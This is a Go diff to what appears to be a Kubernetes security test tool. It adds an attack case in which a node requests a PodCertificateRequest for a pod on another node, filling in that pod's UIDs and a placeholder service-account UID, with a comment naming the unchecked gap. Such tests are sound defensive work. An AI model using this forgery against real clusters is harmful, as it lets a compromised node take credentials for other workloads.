@@ -4,6 +4,7 @@
 package attack
 
 import (
+	"cmp"
 	"crypto/ed25519"
 	"crypto/rand"
 	"crypto/x509"
@@ -49,10 +50,32 @@ func otherAttacks() []Attack {
 			},
 		},
 		{
-			ID: "certificate-for-pod-elsewhere", Rule: "baseline-pod-certificate-requests", Technique: forgeCredentials, Stock: NotTried,
+			ID: "certificate-for-pod-elsewhere", Rule: "baseline-pod-certificate-requests", Technique: forgeCredentials, Stock: NodeRestriction,
 			Does: "requests a certificate for a pod of another node",
-			write: func(*state) (*write, string) {
-				return nil, "the request needs proof of a key and the UIDs of the pod, its Node and its account"
+			write: func(s *state) (*write, string) {
+				switch {
+				case s.own == nil:
+					return nil, "the Node does not exist"
+				case s.otherPod == nil:
+					return nil, noOtherPod
+				case textAt(s.otherPod, "metadata", "uid") == "":
+					return nil, "the UID of the pod of another node is not known"
+				}
+				stub, err := signedRequest("")
+				if err != nil {
+					return nil, err.Error()
+				}
+				return creation("podcertificaterequests.certificates.k8s.io", object{
+					"apiVersion": "certificates.k8s.io/v1", "kind": "PodCertificateRequest",
+					"metadata": object{"name": "nrp-attack", "namespace": textAt(s.otherPod, "metadata", "namespace")},
+					"spec": object{
+						"signerName": "nrp-attack.example.com/none", "stubPKCS10Request": base64.StdEncoding.EncodeToString(stub),
+						"nodeName": s.node, "nodeUID": textAt(s.own, "metadata", "uid"),
+						"podName": textAt(s.otherPod, "metadata", "name"), "podUID": textAt(s.otherPod, "metadata", "uid"),
+						// A kubelet cannot read the account. Nothing compares its UID before the node of the pod.
+						"serviceAccountName": cmp.Or(textAt(s.otherPod, "spec", "serviceAccountName"), "default"), "serviceAccountUID": someUID,
+					},
+				}), ""
 			},
 		},
 		{
@@ -147,14 +170,18 @@ func resourceSlice(node string) object {
 	}
 }
 
-// certificateRequest returns a request for a client certificate in PEM and base64, signed with a key that everybody knows: a dry
-// run gets no certificate.
+// certificateRequest returns a request for the client certificate of a node, in PEM and base64.
 func certificateRequest(name string) (string, error) {
-	request, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
-		Subject: pkix.Name{CommonName: name, Organization: []string{"system:nodes"}},
-	}, ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize)))
+	request, err := signedRequest(name, "system:nodes")
 	if err != nil {
 		return "", err
 	}
 	return base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: request})), nil
+}
+
+// signedRequest returns a PKCS #10 request in DER, signed with a key that everybody knows: a dry run gets no certificate.
+func signedRequest(name string, organizations ...string) ([]byte, error) {
+	return x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
+		Subject: pkix.Name{CommonName: name, Organization: organizations},
+	}, ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize)))
 }
